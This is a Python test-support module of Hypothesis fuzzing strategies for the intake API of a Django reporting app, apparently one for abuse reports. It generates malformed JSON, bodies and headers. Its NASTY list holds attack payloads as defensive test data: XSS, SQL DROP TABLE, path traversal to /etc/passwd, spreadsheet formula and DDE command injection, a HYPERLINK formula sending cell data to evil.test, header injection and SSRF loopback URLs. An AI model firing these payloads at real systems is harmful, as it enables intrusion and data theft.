"""What hostile or careless clients send, as Hypothesis strategies, and the fuzz suite's budget.

The suite runs in ``make test`` on both databases, so it is bounded (a few dozen examples per
test, the whole suite well under 90 s) and deterministic: ``derandomize`` draws the same
examples on every run and no example database is kept, so CI never fails on a draw that a
laptop never saw. A new failure found by raising ``max_examples`` locally becomes an
``@example`` on the test that found it.
"""

from __future__ import annotations

import json
import os
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FUZZ = settings(
    max_examples=int(os.environ.get("FLAGDESK_FUZZ_EXAMPLES", "40")),
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,  # one database per test; examples share it
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

# Any text a browser or a JSON client can send (lone surrogates cannot be encoded as UTF-8).
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=200)
control_chars = st.text(
    st.sampled_from(
        [chr(c) for c in range(32)] + ["\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\u202e"]
    ),
    min_size=1,
    max_size=8,
)
# Values that have broken web applications: markup, template syntax, spreadsheet formulas, SQL,
# paths, header injection, lookalike and oversized hosts, and URLs no browser would produce.
NASTY = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}{% debug %}",
    "%(name)s %s {0} {}",
    '=HYPERLINK("https://evil.test/?"&A1)',
    "+SUM(1)",
    "-1+1",
    "@cmd",
    "\t=1",
    "x;=cmd|' /C calc'!A0",
    "'; DROP TABLE intake_report;--",
    "../../../../etc/passwd",
    "\x00",
    "%00",
    "Report\r\nBcc: victim@elsewhere.test",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "http://127.0.0.1:8000/staff/",
    "http://[::1]/",
    "http://0x7f000001/",
    "http://user:pass@social.example.test/p/1",
    "https://social.example.test/p/1?utm_source=x&fbclid=y#top",
    "https://xn--80ak6aa92e.test/",
    "https://пример.test/путь",
    "https://例え.テスト/パス",
    "https://social.example.test:99999/",
    "https://ex ample.test/",
    "https:///nohost",
    "file:///etc/passwd",
    "ftp://social.example.test/x",
    "https://" + "a" * 300 + ".test/",
    "https://social.example.test/" + "%" * 50,
    "https://social.example.test/" + "a" * 9000,
    "\u202ehttps://social.example.test/evil",
    "\uff28\uff34\uff34\uff30\uff33://social.example.test/",  # fullwidth HTTPS
    "R-7KQ3-M9XD",
    "0" * 64,
]
nasty = st.sampled_from(NASTY)
huge = st.sampled_from([70_000, 600_000]).flatmap(
    lambda n: st.sampled_from(
        ["A" * n, "é" * n, "\U0001f600" * (n // 4), "https://x.test/" * (n // 15)]
    )
)
hostile_text = st.one_of(
    any_text,
    nasty,
    control_chars,
    st.lists(st.one_of(any_text, nasty, control_chars), max_size=5).map("".join),
    huge,
)

# JSON values of any shape, to send where an object of a known shape is expected.
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | hostile_text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(any_text, inner, max_size=4),
    max_leaves=12,
)
# A header value as WSGI hands it over: Latin-1 text without line breaks.
header_text = st.text(
    st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=120
)


def maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """The value, or a wrong type in its place, or nothing (the key missing)."""
    return st.one_of(strategy, json_values, st.just(MISSING))


MISSING = object()


def without_missing(data: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in data.items() if v is not MISSING}


report_payloads = st.builds(
    lambda **fields: without_missing(fields),
    language=maybe(st.sampled_from(["en", "fr", "nl", "de", "xx", ""])),
    urls=maybe(st.lists(st.one_of(hostile_text, nasty), max_size=60)),
    role=maybe(st.sampled_from(["victim", "witness", "parent", "professional", "other", "x"])),
    phenomenon=maybe(st.sampled_from(["ncii", "csam", "grooming", "", "nope"]) | hostile_text),
    description=maybe(hostile_text),
    consent=maybe(st.booleans()),
    reporter=maybe(
        st.builds(
            lambda **fields: without_missing(fields),
            anonymous=maybe(st.booleans()),
            name=maybe(hostile_text),
            email=maybe(hostile_text),
            phone=maybe(hostile_text),
        )
    ),
    victim=maybe(
        st.fixed_dictionaries({"age_band": json_values, "gender": json_values}),
    ),
    signals=maybe(
        st.lists(st.fixed_dictionaries({"type": json_values, "value": json_values}), max_size=3)
    ),
)


def json_bytes(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


raw_bodies = st.one_of(
    st.binary(max_size=300),
    st.sampled_from(
        [
            b"",
            b"{",
            b"[]",
            b"null",
            b'{"urls": [',
            b"\xff\xfe{}",
            b'{"a": NaN}',
            b"[" * 5000 + b"]" * 5000,
            b'{"language": "en", "urls": "not a list"}',
        ]
    ),
)
content_types = st.sampled_from(
    [
        "application/json",
        "application/json; charset=latin-1",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=xyz",
        "application/octet-stream",
        "",
    ]
)


def storable(*texts: str) -> bool:
    """Whether the test database can hold these texts: PostgreSQL text cannot hold NUL (the
    web forms and the API refuse it before it reaches the database), SQLite can."""
    from django.db import connection

    return connection.vendor != "postgresql" or not any("\x00" in t for t in texts)
